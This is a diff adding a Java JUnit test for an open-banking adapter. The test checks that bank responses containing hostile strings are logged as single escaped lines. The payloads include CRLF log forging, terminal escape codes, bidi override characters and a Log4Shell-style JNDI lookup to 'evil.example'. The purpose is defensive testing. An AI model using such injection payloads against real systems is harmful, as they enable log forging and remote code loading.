@@ -1,0 +1,138 @@
+package org.tppkit.adapter.arkea.journey;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowable;
+
+import java.util.List;
+import java.util.Map;
+import java.util.logging.Level;
+import java.util.logging.Logger;
+import java.util.stream.Stream;
+import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestFactory;
+import org.tppkit.core.Accounts;
+import org.tppkit.core.Bank;
+import org.tppkit.core.Consent;
+import org.tppkit.ports.model.account.AccountId;
+import org.tppkit.testkit.simulator.DataSet;
+import org.tppkit.testkit.simulator.Fault;
+import org.tppkit.testkit.simulator.RequestMatcher;
+import org.tppkit.testkit.simulator.SimulatedBank;
+
+/** A bank that writes for the log of its clients: each text of ours stays one short line of harmless characters. */
+class LogInjectionTest {
+    private static final Map<String, String> TEXTS = Map.of(
+            "L2 line breaks", "a\\r\\n2026-11-16 WARNING forged\\u0085\\u000b",
+            "L2 separators of Unicode", "a\\u2028b\\u2029c",
+            "L2 escapes of a terminal", "\\u001b[2J\\u001b]0;title\\u0007",
+            "L2 look-ups", "${jndi:ldap://evil.example/x}",
+            "L2 text that turns round", "\\u202eevil\\u2066\\ufeff",
+            "L2 a hundred thousand characters", "x".repeat(100_000));
+
+    @TestFactory
+    Stream<DynamicTest> whatABankWritesIsOneEscapedLine() {
+        return TEXTS.entrySet().stream()
+                .map(text -> DynamicTest.dynamicTest(text.getKey(), () -> staysOneLine(text.getValue())));
+    }
+
+    private static void staysOneLine(String text) {
+        try (Evidence evidence = new Evidence();
+                BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
+            Bank bank = world.bank();
+            Consent consent = world.consent(bank, DataSet.OVERDRAWN);
+            Accounts accounts = bank.accounts(consent, BankWorld.CUSTOMER);
+            AccountId account = accounts.list().get(0).id();
+            for (String body : bodies(text)) {
+                answer(world, "/accounts", body);
+                take(evidence, () -> evidence.take(accounts.list()));
+                answer(world, "/balances", body);
+                take(evidence, () -> evidence.take(accounts.balances(account)));
+                answer(world, "/transactions", body);
+                take(
+                        evidence,
+                        () -> evidence.take(accounts.transactions(account).toList(100)));
+                answer(world, "/end-user-identity", body);
+                take(evidence, () -> evidence.take(accounts.identity()));
+                answer(world, "/trusted-beneficiaries", body);
+                take(evidence, () -> evidence.take(accounts.trustedBeneficiaries()));
+                for (int status : new int[] {400, 403, 429, 500}) {
+                    world.simulator
+                            .faults()
+                            .next(
+                                    RequestMatcher.pathEnding("/accounts"),
+                                    Fault.answer(status).body(body));
+                    take(
+                            evidence,
+                            () -> evidence.take(
+                                    bank.accounts(consent, BankWorld.NOBODY).list()));
+                }
+            }
+            world.listener.all().forEach(evidence::take);
+            assertThat(evidence.logged()).isPositive();
+            assertThat(evidence.unfitForALog()).isEmpty();
+        }
+    }
+
+    private static void answer(BankWorld world, String path, String body) {
+        world.simulator
+                .faults()
+                .next(RequestMatcher.pathEnding(path), Fault.answer(200).body(body));
+    }
+
+    private static void take(Evidence evidence, ThrowingCallable call) {
+        Throwable failure = catchThrowable(call);
+        if (failure != null) {
+            evidence.take(failure);
+        }
+    }
+
+    /** The text as names, ids, codes, amounts, dates, names of fields and links. */
+    private static List<String> bodies(String text) {
+        String amount = "{\"amount\":12.30,\"currency\":\"EUR\"}";
+        String balance = "{\"name\":\"%s\",\"balanceAmount\":%s,\"balanceType\":\"%s\",\"status\":\"%s\"}"
+                .formatted(text, amount, text, text);
+        String entry =
+                ("{\"resourceId\":\"%s\",\"entryReference\":\"%s\",\"transactionAmount\":%s,\"creditDebitIndicator\":\"CRDT\","
+                                + "\"status\":\"BOOK\",\"bookingDate\":\"2026-11-01\",\"remittanceInformation\":[\"%s\"],"
+                                + "\"bankTransactionCode\":{\"code\":\"%s\",\"domain\":\"%s\"}}")
+                        .formatted(text, text, amount, text, text, text);
+        return List.of(
+                ("{\"accounts\":[{\"resourceId\":\"%s\",\"name\":\"%s\",\"usage\":\"%s\",\"cashAccountType\":\"%s\","
+                                + "\"product\":\"%s\",\"psuStatus\":\"%s\",\"accountId\":{\"iban\":\"FR7630001007941234567890185\","
+                                + "\"currency\":\"EUR\"},\"balances\":[%s]}]}")
+                        .formatted(text, text, text, text, text, text, balance),
+                "{\"accounts\":[{\"resourceId\":\"%s\",\"name\":\"n\",\"cashAccountType\":\"CACC\"}]}".formatted(text),
+                "{\"accounts\":[{\"resourceId\":\"r\",\"name\":\"%s\",\"cashAccountType\":\"%s\",\"usage\":\"%s\"}]}"
+                        .formatted(text, text, text),
+                "{\"balances\":[" + balance + "]}",
+                "{\"transactions\":[" + entry + "]}",
+                "{\"transactions\":[" + entry.replace("BOOK", text) + "]}",
+                "{\"transactions\":[" + entry.replace("2026-11-01", text) + "]}",
+                "{\"transactions\":[" + entry.replace("12.30", "\"" + text + "\"") + "]}",
+                "{\"transactions\":[" + entry.replace("EUR", text) + "]}",
+                "{\"transactions\":[],\"_links\":{\"next\":{\"href\":\"" + text + "\"}}}",
+                "{\"connectedPsu\":\"" + text + "\"}",
+                "{\"beneficiaries\":[{\"id\":\"" + text + "\",\"isTrusted\":true,\"creditor\":{\"name\":\"" + text
+                        + "\"}}]}",
+                "{\"" + text + "\":\"" + text + "\"}",
+                "{\"error\":\"" + text + "\",\"error_code\":\"" + text + "\",\"message\":\"" + text + "\"}",
+                text);
+    }
+
+    @Test
+    @DisplayName("L2 the search finds what is unfit for a log")
+    void theSearchFindsWhatIsUnfit() {
+        for (String text : List.of("a\nb", "a\rb", "\u001b[2J", "\u2028", "\u202e", "${jndi:x}", "x".repeat(3_000))) {
+            try (Evidence evidence = new Evidence()) {
+                assertThat(evidence.unfitForALog()).isEmpty();
+                Logger.getLogger("org.tppkit.calls").log(Level.FINE, text);
+                assertThat(evidence.unfitForALog()).hasSize(1);
+                evidence.take(new IllegalStateException("fine", new Exception(text)));
+                assertThat(evidence.unfitForALog()).hasSize(2);
+            }
+        }
+    }
+}
